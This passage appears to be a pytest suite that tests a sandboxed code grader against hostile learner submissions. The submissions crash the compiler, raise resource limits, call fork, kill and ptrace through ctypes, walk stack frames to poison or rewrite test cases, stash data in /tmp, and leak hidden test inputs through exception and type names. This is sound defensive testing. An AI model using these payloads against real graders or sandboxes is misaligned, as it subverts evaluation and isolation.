    # the first submission stashes its inputs in its scratch dir, the scratch root, $HOME, /tmp and
    # /dev/shm; the second looks for them there (and lists the scratch root) and raises what it found
    token = secrets.token_hex(4)
    places = ["stash.txt", "../stash.txt", "~/stash.txt", f"/tmp/stash-{token}.txt", f"/dev/shm/stash-{token}"]
    attack(f"""
        import os
        def softmax(x):
            for place in {places!r}:
                try:
                    with open(os.path.expanduser(place), "a") as f:
                        f.write(repr(x.tolist()))
                except OSError:
                    pass
            return x
    """)
    result = attack(f"""
        import json, os
        def softmax(x):
            found = {{}}
            for place in {places!r}:
                try:
                    with open(os.path.expanduser(place)) as f:
                        found[place] = f.read()[:40]
                except OSError:
                    pass
            found["siblings"] = len(os.listdir(".."))
            raise RuntimeError(json.dumps(found))
    """)
    assert reported(result) == {"siblings": 1}, reported(result)
    for place in places[3:]:
        assert not Path(place).exists()


# --------------------------------------------------------------------------- the grader's own compile step


COMPILE_BOMBS = {
    # 100 000 unary minus signs: CPython's parser runs out of stack (MemoryError)
    "unary-chain": "x = " + "-" * 100_000 + "1\n",
    # 100 000 `not`s: the same through another rule
    "not-chain": "x = " + "not " * 100_000 + "1\n",
    # 200 000 additions: the compiler recurses too deep (RecursionError)
    "addition-chain": "x = " + "1+" * 200_000 + "1\n",
}


@pytest.mark.parametrize("name", list(COMPILE_BOMBS), ids=list(COMPILE_BOMBS))
def test_sources_that_break_the_compiler_get_a_verdict(name):
    # grade_code compiles the source in the grader to find syntax errors: a source the compiler
    # cannot handle must still be a learner error, not an exception out of grade_code
    result = attack(COMPILE_BOMBS[name] + "def softmax(x):\n    return x\n")
    assert result.status == "learner_error", result


COMPILE_MEMORY = """
import json, resource, sys, time
sys.path.insert(0, {root!r})
from grader.grading.codegrade import grade_code
from grader.bank.loader import load_bank
question = load_bank().questions["softmax_function"]
grade_code(question, {right!r}, 1)  # warm: zygote started, modules imported
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.monotonic()
try:
    result = grade_code(question, "x = 1\\n" * 500_000 + "def softmax(x):\\n    return x\\n", 1)
    outcome = [result.status, result.passed]
except BaseException as exc:
    outcome = ["raised " + type(exc).__name__, False]
print(json.dumps({{"grown_mib": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024,
                  "seconds": time.monotonic() - started, "outcome": outcome}}))
"""


def test_a_huge_source_does_not_make_the_grader_itself_balloon():
    # 500 000 lines (2 MB) of `x = 1`: compiling it costs about 0.7 GB and 2 s. The child has a memory
    # limit; the grader process, which also compiles the source, must not pay that itself. Measured
    # in a fresh grader process (its peak RSS is the figure), through the real grade_code.
    script = COMPILE_MEMORY.format(root=str(ROOT), right=RIGHT_SOFTMAX)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["outcome"][1] is False, report
    assert report["seconds"] < TIME_BOUND, report
    assert report["grown_mib"] < 256, f"the grader process grew by {report['grown_mib']:.0f} MiB compiling a submission"


# --------------------------------------------------------------------------- kernel-level tricks


def test_raising_rlimits_is_refused():
    # raise RLIMIT_CPU / AS / NOFILE / FSIZE / NPROC to unlimited (setrlimit and prlimit), then try a
    # 2 GiB allocation that the memory limit must still stop
    result = attack("""
        import json, resource
        import numpy as np
        def softmax(x):
            report = {}
            for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
                which = getattr(resource, name)
                for how, call in (("set", lambda: resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2)),
                                  ("prlimit", lambda: resource.prlimit(0, which, (resource.RLIM_INFINITY,) * 2))):
                    try:
                        call()
                        report[f"{how}-{name}"] = "allowed"
                    except (OSError, ValueError) as exc:
                        report[f"{how}-{name}"] = type(exc).__name__
            try:
                np.ones((2 << 30) // 8)
                report["2GiB"] = "allocated"
            except MemoryError:
                report["2GiB"] = "MemoryError"
            raise RuntimeError(json.dumps(report))
    """)
    outcomes = reported(result)
    assert outcomes.pop("2GiB") == "MemoryError"
    assert "allowed" not in outcomes.values(), outcomes


def test_ctypes_tricks_are_denied():
    mode = (ROOT / "pyproject.toml").stat().st_mode & 0o777
    # through ctypes: fork, kill/tgkill of the zygote, ptrace, unshare, setsid, chmod of the checkout
    result = attack(f"""
        import ctypes, json, os
        libc = ctypes.CDLL(None, use_errno=True)
        def softmax(x):
            zygote = os.getppid()
            report = {{}}
            for name, call in [
                ("fork", lambda: libc.fork()),
                ("kill", lambda: libc.syscall(62, zygote, 0)),
                ("tgkill", lambda: libc.syscall(234, zygote, zygote, 0)),
                ("ptrace-seize", lambda: libc.syscall(101, 0x4206, zygote, 0, 0)),
                ("unshare", lambda: libc.syscall(272, 0x10000000)),
                ("setsid", lambda: libc.syscall(112)),
                ("chmod", lambda: libc.chmod({str(ROOT / "pyproject.toml").encode()!r}, {mode})),  # same mode
            ]:
                value = call()
                if value == 0 and name == "fork":
                    os._exit(0)
                report[name] = "allowed" if value >= 0 else os.strerror(ctypes.get_errno())
            raise RuntimeError(json.dumps(report))
    """)
    outcomes = reported(result)
    assert "allowed" not in outcomes.values(), outcomes


def test_every_syscall_on_the_deny_list_is_refused_with_its_own_errno():
    """Each denied syscall, called through ctypes with every argument -1 (an invalid pointer, fd, pid or flag
    word, so that without the filter the kernel would answer EFAULT, EBADF, EINVAL or ESRCH), gets the
    filter's answer; an allowed one still works. Left out: those that ignore their arguments and would
    create something (fork, vfork, System V objects)."""
    from grader.sandbox.seccomp import DENY_ENOSYS, SeccompFilter
    from grader.sandbox.syscalls import seccomp_arch

    arch = seccomp_arch()
    assert arch is not None, "this test needs the seccomp syscall table of this machine"
    calls = [(name, arch[1][name], os.strerror(errno.ENOSYS if name in DENY_ENOSYS else errno.EPERM))
             for name in SeccompFilter().denied if name not in ("fork", "vfork", "msgget", "semget", "shmget")]
    result = attack(f"""
        import ctypes, json, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        def softmax(x):
            report = {{"getpid": libc.getpid() > 0, "wrong": {{}}, "count": 0}}
            for name, number, expected in {calls!r}:
                ctypes.set_errno(0)
                value = libc.syscall(number, *([ctypes.c_long(-1)] * 6))
                answer = "allowed" if value >= 0 else os.strerror(ctypes.get_errno())
                report["count"] += 1
                if answer != expected and len(report["wrong"]) < 5:  # the message holds 500 characters
                    report["wrong"][name] = answer
            raise RuntimeError(json.dumps(report))
    """)
    assert reported(result) == {"getpid": True, "wrong": {}, "count": len(calls)}


# --------------------------------------------------------------------------- in-place updates (ridge_blank)


RIDGE_HEAD = "import numpy as np\n\ndef ridge(param, grad, rate):\n"
RIDGE_ATTACKS = {
    # the blank filled with code that ends the process before the update
    "blank-exits": RIGHT_RIDGE.replace("grad += rate * param", 'grad += rate * (__import__("os")._exit(101) or param)'),
    # rebind `grad` in the harness's own environment (found by walking frames) instead of updating it
    "rebind-through-frames": RIDGE_HEAD + textwrap.indent(textwrap.dedent("""
        import sys
        frame = sys._getframe(1)
        while frame is not None and "env" not in frame.f_locals:
            frame = frame.f_back
        frame.f_locals["env"]["grad"] = grad + rate * param
    """), "    "),
    # reinterpret grad's memory as integers (in-place dtype change) after the update
    "dtype-reinterpret": RIDGE_HEAD + "    grad += rate * param\n    grad.dtype = np.int64\n",
    # resize grad in place (shape change)
    "resize": RIDGE_HEAD + "    grad += rate * param\n    grad.resize(grad.size + 1, refcheck=False)\n",
    # update grad right but also shift param, which must not change
    "modify-param-too": RIDGE_HEAD + "    grad += rate * param\n    param *= 0.5\n",
    # poison the inputs of every later case in the child (rate -> 0, grad -> zeros) and do nothing
    "poison-later-cases": RIDGE_HEAD + textwrap.indent(textwrap.dedent("""
        import sys
        frame = sys._getframe(1)
        while frame is not None and "program" not in frame.f_locals:
            frame = frame.f_back
        for case in frame.f_locals["program"]["cases"]:
            case["let"]["grad"] = np.zeros_like(case["let"]["grad"])
            for step in case["steps"]:
                step["args"][2] = 0.0
    """), "    "),
    # no update, but numpy's comparisons patched to say "equal"
    "patched-compare": RIDGE_HEAD + "    np.array_equal = np.allclose = np.isclose = lambda *a, **k: True\n",
    # fill grad with NaN
    "nan": RIDGE_HEAD + "    grad[...] = np.nan\n",
}


@pytest.mark.parametrize("name", list(RIDGE_ATTACKS), ids=list(RIDGE_ATTACKS))
def test_in_place_attacks_on_ridge_fail(name):
    result = attack(RIDGE_ATTACKS[name], RIDGE)
    assert result.score < 1.0, failures(result)


# --------------------------------------------------------------------------- the verdict as a channel


EXFILTRATION = {
    # the hidden input in an exception message
    "exception-message": "def softmax(x):\n    raise ValueError(repr(x.tolist()))\n",
    # the hidden input as the name of the exception's class
    "exception-type-name": "def softmax(x):\n    raise type(repr(x.tolist()), (Exception,), {})()\n",
    # the hidden input as the type name of an unconvertible result
    "result-type-name": "def softmax(x):\n    return type(repr(x.tolist()), (), {})()\n",
    # the hidden input as the field name of a structured dtype
    "structured-dtype": "import numpy as np\ndef softmax(x):\n    return np.zeros(3, dtype=[(repr(x.tolist())[:200], 'f8')])\n",
    # the hidden input's integer parts as the shape of an empty array
    "zero-size-shape": "import numpy as np\ndef softmax(x):\n    return np.zeros((0,) + tuple(int(abs(v)) for v in x.ravel()[:6]))\n",
    # every case's input read at import time from the harness's frame, printed and raised
    "import-time-frame-walk": """
import sys
frame = sys._getframe(1)
while frame is not None and "program" not in frame.f_locals:
    frame = frame.f_back
inputs = [case["let"]["x"].tolist() for case in frame.f_locals["program"]["cases"]]
print(inputs)
raise ValueError(repr(inputs[2:]))
""",
    # every case's input read from the harness's frame inside the first (public) case, written to
    # stdout, then exit before that case's result is sent: the whole stdout comes back
    "first-case-frame-walk-then-exit": """
import os, sys
def softmax(x):
    frame = sys._getframe(1)
    while frame is not None and "program" not in frame.f_locals:
        frame = frame.f_back
    os.write(1, repr([case["let"]["x"].tolist() for case in frame.f_locals["program"]["cases"]]).encode())
    os._exit(0)
""",
    # the hidden input as the name of the function in the traceback
    "traceback-function-name": """
def softmax(x):
    if abs(x).max() < 100:  # a plain wrong answer on small inputs: the first error is a hidden case's
        return x
    def inner():
        raise ValueError("boom")
    inner.__code__ = inner.__code__.replace(co_name=repr(x.tolist()))
    inner()
""",
}


@pytest.mark.parametrize("name", list(EXFILTRATION), ids=list(EXFILTRATION))
def test_hidden_inputs_cannot_be_exfiltrated_through_the_verdict(name):
    # the learner's code sees its inputs; the grader must not carry them back out for hidden cases
    attack(EXFILTRATION[name])


MALFORMED = {
    # a load-error status without its fields
    "status-error-without-fields": 'frame({"status": "error", "error": {}})',
    # a load-error status whose error is a string
    "status-error-string": 'frame({"status": "error", "error": "x"})',
    # a case error whose error is a string
    "case-error-string": 'frame({"status": "ok"}) + frame({"status": "error", "error": "boom"})',
    # a case whose outputs is a number
    "outputs-number": 'frame({"status": "ok"}) + frame({"status": "ok", "outputs": 5})',
    # a case with outputs None
    "outputs-none": 'frame({"status": "ok"}) + frame({"status": "ok", "outputs": None})',
    # a $dict whose body is a list
    "dict-of-list": 'frame({"status": "ok"}) + frame(raw=b\'{"$dict": {"status": "ok", "outputs": [{"$dict": [1]}]}}\')',
    # a blob reference with no blob
    "missing-blob": 'frame({"status": "ok"}) + frame(raw=b\'{"$dict": {"status": "ok", "outputs": [{"$nd": 7}]}}\')',
    # JSON nested 100 000 deep
    "deep-json": 'frame({"status": "ok"}) + frame(raw=b"[" * 100000 + b"]" * 100000)',
}


@pytest.mark.parametrize("name", list(MALFORMED), ids=list(MALFORMED))
def test_malformed_frames_get_a_verdict_not_an_exception(name):
    # well-framed messages whose content is not what the harness sends: the grader must answer
    # with a failing verdict ("tampered with"), not raise out of grade_code
    result = attack(FRAME + f"os.write(3, {MALFORMED[name]})\nos._exit(101)\n")
    assert not result.passed
